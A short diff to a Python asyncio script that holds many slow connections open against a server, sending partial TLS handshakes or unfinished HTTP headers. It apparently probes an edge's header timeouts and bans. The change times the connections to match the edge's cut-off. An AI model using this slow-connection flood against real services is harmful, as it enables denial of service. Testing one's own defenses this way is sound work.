@@ -25,6 +25,7 @@ CONTEXT.check_hostname, CONTEXT.verify_mode = False, ssl.CERT_NONE
 
 HELLO = bytes.fromhex("160301020001")  # how a handshake begins, of 512 bytes more to come
 PATIENCE = 10  # seconds; a ban drops packets, and whoever waits for an answer waits for ever
+CUT = 10  # seconds that the edge gives a client for its headers
 KEPT = 20  # connections of a flood
 
 
@@ -43,7 +44,8 @@ class Slow:
 
     async def one(self, number: int) -> None:
         first = HELLO if number % 4 > 1 else f"GET / HTTP/1.1\r\nHost: {self.name}\r\nX-Slow: ".encode()
-        await asyncio.sleep(number / 100)  # a hundred of them a second: to connect is not what is tried here
+        # The edge cuts each after that time, and they come again as evenly: to connect is not what is tried here.
+        await asyncio.sleep(number / self.count * CUT)
         while time.monotonic() < self.end:
             try:
                 reader, writer = await self.begin(number)
